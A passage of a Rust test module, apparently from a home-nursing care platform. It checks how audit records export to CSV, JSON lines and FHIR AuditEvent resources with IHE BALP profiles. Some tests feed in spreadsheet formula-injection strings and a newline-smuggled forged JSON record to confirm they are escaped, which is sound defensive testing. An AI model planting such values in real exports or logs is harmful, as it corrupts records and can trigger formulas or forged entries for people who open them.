        let cells = csv_cells(&record);
        assert_eq!(cells[column("user_agent")], format!("'{agent}"));
        assert_eq!(cells[column("reason")], "'-2+3");
        assert_eq!(cells[column("actor_role")], "'@SUM(A1:A9)");
        for cell in &cells {
            assert!(!cell.starts_with(FORMULA_TRIGGERS), "{cell:?}");
        }
        // A trigger later in the cell is harmless and left alone.
        record.reason = Some("a=b".to_owned());
        assert!(csv_line(ExportRow::new(&record, None)).ends_with(",a=b\r\n"));
    }

    #[test]
    fn csv_quotes_commas_quotes_and_line_breaks() {
        let mut record = record("room.view", "refused");
        record.reason = Some("a,b".to_owned());
        record.user_agent = Some("Mozilla/5.0 (\"quoted\")".to_owned());
        record.object_id = Some("line1\nline2\r\nline3\r".to_owned());
        let line = csv_line(ExportRow::new(&record, Some(1)));
        assert!(line.ends_with(",\"a,b\"\r\n"), "{line}");
        assert!(
            line.contains(",\"Mozilla/5.0 (\"\"quoted\"\")\","),
            "{line}"
        );
        assert!(line.contains(",\"line1\nline2\r\nline3\r\","), "{line:?}");
        let cells = csv_cells(&record);
        assert_eq!(cells[column("reason")], "a,b");
        assert_eq!(cells[column("user_agent")], "Mozilla/5.0 (\"quoted\")");
        assert_eq!(cells[column("object_id")], "line1\nline2\r\nline3\r");
    }

    #[test]
    fn csv_keeps_japanese_text() {
        let mut record = record("room.view", "success");
        let agent = "つなぐ／訪問看護ステーションさくら 田中花子（看護師）";
        record.user_agent = Some(agent.to_owned());
        let line = csv_line(ExportRow::new(&record, Some(1)));
        assert!(line.contains(&format!(",{agent},")), "unquoted: {line}");
        assert_eq!(csv_cells(&record)[column("user_agent")], agent);
    }

    #[test]
    fn json_line_parses_back() {
        let mut record = record("timeline.edit", "success");
        record.reason = Some("=1+1\n\"訂正\"".to_owned());
        record.object_type = None;
        let line = json_line(ExportRow::new(&record, Some(9)));
        assert!(line.ends_with('\n'));
        assert_eq!(line.matches('\n').count(), 1, "{line}");
        let value: Value = serde_json::from_str(&line).unwrap();
        let object = value.as_object().unwrap();
        let mut keys: Vec<&str> = object.keys().map(String::as_str).collect();
        let mut expected = CSV_COLUMNS.to_vec();
        expected.push("occurred_at_us");
        keys.sort_unstable();
        expected.sort_unstable();
        assert_eq!(keys, expected);
        assert_eq!(value["position"], 9);
        assert_eq!(value["audit_event_id"], 42);
        assert_eq!(value["occurred_at"], "2026-11-21T03:04:05.123456Z");
        assert_eq!(value["occurred_at_us"], AT);
        assert_eq!(value["actor_user_id"], "0193a3b4-user");
        assert_eq!(value["actor_role"], "visiting_nurse");
        assert_eq!(value["actor_organisation_id"], "0193a3b4-org");
        assert_eq!(value["session_id"], "0193a3b4-session");
        assert_eq!(value["source_address"], "203.0.113.7");
        assert_eq!(value["user_agent"], "tsunagu-cli/0.1.0");
        assert_eq!(value["action"], "timeline.edit");
        assert_eq!(value["object_type"], Value::Null);
        assert_eq!(value["object_id"], "0193a3b4-room");
        assert_eq!(value["outcome"], "success");
        assert_eq!(
            value["reason"], "=1+1\n\"訂正\"",
            "JSON keeps values as they are"
        );

        let unchained: Value =
            serde_json::from_str(&json_line(ExportRow::new(&record, None))).unwrap();
        assert_eq!(unchained["position"], Value::Null);
    }

    #[test]
    fn fhir_patient_read() {
        let mut record = record("timeline.read", "success");
        record.reason = Some("after=3;count=10".to_owned());
        let event = fhir(&record);
        assert_eq!(event["resourceType"], "AuditEvent");
        assert_eq!(event["id"], "tsunagu-42");
        assert_eq!(
            profile(&event),
            Some(
                "https://profiles.ihe.net/ITI/BALP/StructureDefinition/IHE.BasicAudit.PatientRead"
            )
        );
        assert_eq!(event["extension"][0]["url"], FHIR_EXT_LOG_POSITION);
        assert_eq!(event["extension"][0]["valueDecimal"], 7);
        assert_eq!(event["type"]["system"], AUDIT_EVENT_TYPE);
        assert_eq!(event["type"]["code"], "rest");
        assert_eq!(event["subtype"][0]["system"], RESTFUL_INTERACTION);
        assert_eq!(event["subtype"][0]["code"], "read");
        assert_eq!(event["subtype"][1]["system"], "urn:tsunagu:action");
        assert_eq!(event["subtype"][1]["code"], "timeline.read");
        assert_eq!(event["action"], "R");
        assert_eq!(event["recorded"], "2026-11-21T03:04:05.123456Z");
        assert_eq!(event["outcome"], "0");
        assert_eq!(event["outcomeDesc"], "after=3;count=10");

        let user = agent_with_type(&event, "IRCP");
        assert_eq!(user["who"]["identifier"]["system"], "urn:tsunagu:user");
        assert_eq!(user["who"]["identifier"]["value"], "0193a3b4-user");
        assert_eq!(user["role"][0]["coding"][0]["system"], "urn:tsunagu:role");
        assert_eq!(user["role"][0]["coding"][0]["code"], "visiting_nurse");
        assert_eq!(user["requestor"], true);
        assert!(
            user.get("network").is_none(),
            "users are not network devices"
        );
        assert_eq!(user["extension"][0]["url"], FHIR_EXT_SESSION);
        assert_eq!(
            user["extension"][0]["valueIdentifier"]["value"],
            "0193a3b4-session"
        );
        assert_eq!(user["extension"][1]["url"], FHIR_EXT_ORGANISATION);
        assert_eq!(
            user["extension"][1]["valueIdentifier"]["value"],
            "0193a3b4-org"
        );
        // A read: the client receives (destination), the server sends (source).
        let client = agent_with_type(&event, "110152");
        assert_eq!(client["network"]["address"], "203.0.113.7");
        assert_eq!(client["network"]["type"], "2");
        assert_eq!(client["who"]["display"], "tsunagu-cli/0.1.0");
        assert_eq!(client["requestor"], false);
        let server = agent_with_type(&event, "110153");
        assert_eq!(server["who"]["display"], SERVER);
        assert_eq!(server["network"]["address"], SERVER);

        assert_eq!(event["source"]["observer"]["display"], SERVER);
        assert_eq!(event["source"]["type"][0]["system"], SECURITY_SOURCE_TYPE);
        assert_eq!(event["source"]["type"][0]["code"], "4");

        let entities = event["entity"].as_array().unwrap();
        assert_eq!(entities.len(), 2);
        let patient = entities
            .iter()
            .find(|entity| entity["role"]["code"] == "1")
            .unwrap();
        assert_eq!(patient["type"]["system"], AUDIT_ENTITY_TYPE);
        assert_eq!(patient["type"]["code"], "1");
        assert_eq!(patient["role"]["system"], OBJECT_ROLE);
        assert_eq!(patient["what"]["type"], "Patient");
        assert_eq!(patient["what"]["identifier"]["system"], "urn:tsunagu:room");
        assert_eq!(patient["what"]["identifier"]["value"], "0193a3b4-room");
        let data = entities
            .iter()
            .find(|entity| entity["role"]["code"] == "4")
            .unwrap();
        assert_eq!(data["type"]["code"], "2");
        assert_eq!(data["what"]["identifier"]["system"], "urn:tsunagu:room");
    }

    #[test]
    fn fhir_refused_admin_action() {
        let mut record = record("admin.user_disable", "refused");
        record.object_type = Some("user".to_owned());
        record.object_id = Some("0193a3b4-target".to_owned());
        let event = fhir(&record);
        assert_eq!(event["outcome"], "4");
        assert_eq!(event["outcomeDesc"], "refused");
        assert_eq!(event["action"], "U");
        assert_eq!(profile(&event), None, "BALP profiles are for successes");
        let entities = event["entity"].as_array().unwrap();
        assert_eq!(entities.len(), 1, "a user is no patient");
        assert_eq!(
            entities[0]["what"]["identifier"]["system"],
            "urn:tsunagu:user"
        );
        assert_eq!(
            entities[0]["what"]["identifier"]["value"],
            "0193a3b4-target"
        );

        record.reason = Some("not_admin".to_owned());
        assert_eq!(fhir(&record)["outcomeDesc"], "refused: not_admin");
        record.outcome = "success".to_owned();
        let event = fhir(&record);
        assert_eq!(event["outcome"], "0");
        assert_eq!(
            profile(&event),
            Some("https://profiles.ihe.net/ITI/BALP/StructureDefinition/IHE.BasicAudit.Update")
        );
        agent_with_type(&event, "AUT");
    }

    #[test]
    fn fhir_failed_login() {
        let mut record = record("auth.login", "failure");
        record.object_type = None;
        record.object_id = None;
        record.session_id = None;
        record.reason = Some("bad_password".to_owned());
        let event = fhir(&record);
        assert_eq!(event["type"]["system"], DCM);
        assert_eq!(event["type"]["code"], "110114");
        assert_eq!(event["type"]["display"], "User Authentication");
        assert_eq!(event["subtype"][0]["system"], DCM);
        assert_eq!(event["subtype"][0]["code"], "110122");
        assert_eq!(event["subtype"][1]["code"], "auth.login");
        assert_eq!(event["action"], "E");
        assert_eq!(event["outcome"], "4");
        assert_eq!(event["outcomeDesc"], "bad_password");
        // BALP defines no login profile; nothing is claimed.
        assert!(event.get("meta").is_none(), "{event}");
        assert!(event.get("entity").is_none(), "{event}");
        let user = agent_with_type(&event, "humanuser");
        assert_eq!(user["who"]["identifier"]["value"], "0193a3b4-user");
        assert_eq!(agent_with_type(&event, "110153")["network"]["type"], "2");

        record.action = "auth.logout".to_owned();
        record.outcome = "success".to_owned();
        let event = fhir(&record);
        assert_eq!(event["subtype"][0]["code"], "110123");
        assert_eq!(event["outcome"], "0");
        assert!(event.get("meta").is_none());
    }

    #[test]
    fn fhir_patient_changes_and_searches() {
        let base = "https://profiles.ihe.net/ITI/BALP/StructureDefinition/IHE.BasicAudit.";
        let mut post = record("timeline.post", "success");
        post.reason = Some("entry=0193-entry;seq=5".to_owned());
        let event = fhir(&post);
        assert_eq!(profile(&event), Some(&*format!("{base}PatientCreate")));
        assert_eq!(event["action"], "C");
        assert_eq!(event["subtype"][0]["code"], "create");
        let data = &event["entity"][0];
        assert_eq!(data["what"]["identifier"]["system"], "urn:tsunagu:entry");
        assert_eq!(data["what"]["identifier"]["value"], "0193-entry");
        // A create: the client sends (source), the server receives (destination).
        assert_eq!(agent_with_type(&event, "110153")["network"]["type"], "2");
        assert_eq!(agent_with_type(&event, "110152")["who"]["display"], SERVER);

        let mut edit = record("timeline.edit", "success");
        edit.reason = Some("entry=0193-entry;version=2;seq=6".to_owned());
        let event = fhir(&edit);
        assert_eq!(profile(&event), Some(&*format!("{base}PatientUpdate")));
        assert_eq!(event["action"], "U");

        let delete = record("timeline.delete", "success");
        let event = fhir(&delete);
        assert_eq!(profile(&event), Some(&*format!("{base}PatientDelete")));
        assert_eq!(event["action"], "D");
        assert_eq!(agent_with_type(&event, "110150")["network"]["type"], "2");
        assert_eq!(
            agent_with_type(&event, "custodian")["who"]["display"],
            SERVER
        );

        let mut download = record("attachment.read", "success");
        download.reason = Some("attachment=0193-file;entry=0193-entry".to_owned());
        let event = fhir(&download);
        assert_eq!(profile(&event), Some(&*format!("{base}PatientRead")));
        assert_eq!(
            event["entity"][0]["what"]["identifier"]["system"],
            "urn:tsunagu:attachment"
        );

        // No source address: the client agent cannot have its network, so no claim.
        let mut local = record("room.view", "success");
        local.source_address = None;
        assert_eq!(profile(&fhir(&local)), None);

        let mut search = record("room.patient_search", "success");
        search.object_type = None;
        search.object_id = None;
        search.reason = Some("matches=1".to_owned());
        let event = fhir(&search);
        assert_eq!(profile(&event), None, "BALP Query needs the raw query");
        assert_eq!(event["subtype"][0]["code"], "search");
        assert_eq!(event["action"], "E");
    }

    #[test]
    fn fhir_without_actor_or_position_has_no_nulls() {
        let record = AuditRecord {
            audit_event_id: 3,
            occurred_at: AT,
            action: "attachment.cleanup".to_owned(),
            outcome: "success".to_owned(),
            ..AuditRecord::default()
        };
        let event = fhir_audit_event(ExportRow::new(&record, None), SERVER);
        fn no_nulls(value: &Value) {
            match value {
                Value::Null => panic!("FHIR JSON has no nulls"),
                Value::Array(items) => items.iter().for_each(no_nulls),
                Value::Object(map) => map.values().for_each(no_nulls),
                _ => {}
            }
        }
        no_nulls(&event);
        assert!(event.get("extension").is_none());
        assert!(event.get("outcomeDesc").is_none());
        let agents = event["agent"].as_array().unwrap();
        assert_eq!(agents.len(), 2, "client and server only: {event}");
        assert_eq!(agents[0]["who"]["display"], "unknown client");
        assert!(agents[0].get("network").is_none());
    }

    #[test]
    fn fhir_line_is_one_line() {
        let mut record = record("room.view", "success");
        record.user_agent = Some("evil\n{\"resourceType\":\"Patient\"}".to_owned());
        let line = fhir_line(ExportRow::new(&record, Some(7)), SERVER);
        assert!(line.ends_with('\n'));
        assert_eq!(line.matches('\n').count(), 1);
        let parsed: Value = serde_json::from_str(&line).unwrap();
        assert_eq!(parsed, fhir(&record));
    }

    #[test]
    fn unknown_action_is_a_plain_operation() {
        let record = record("room.teleport", "success");
        let event = fhir(&record);
        assert_eq!(event["subtype"][0]["code"], "operation");
        assert_eq!(event["subtype"][1]["code"], "room.teleport");
        assert_eq!(event["action"], "E");
        assert_eq!(profile(&event), None);
    }

    #[test]
    fn every_action_has_a_kind() {
        // Every stored name in `Action::as_str`, read from its source, so that a new action
        // fails this test (and no other) until it has a FHIR mapping.
        let names: Vec<&str> = include_str!("mod.rs")
            .lines()
            .filter_map(|line| line.trim().strip_prefix("Action::"))
            .filter_map(|rest| rest.split_once(" => \"")?.1.strip_suffix("\","))
            .collect();
        assert!(names.len() >= 50, "{names:?}");
        assert!(names.contains(&Action::TimelineRead.as_str()));
        for name in names {
            let kind = Kind::of(name);
            assert!(kind.is_some(), "{name} has no FHIR mapping");
            assert_eq!(
                matches!(
                    kind,
                    Some(Kind::Login | Kind::Logout | Kind::Authentication)
                ),
                name.starts_with("auth."),
                "{name}"
            );
        }
    }
}
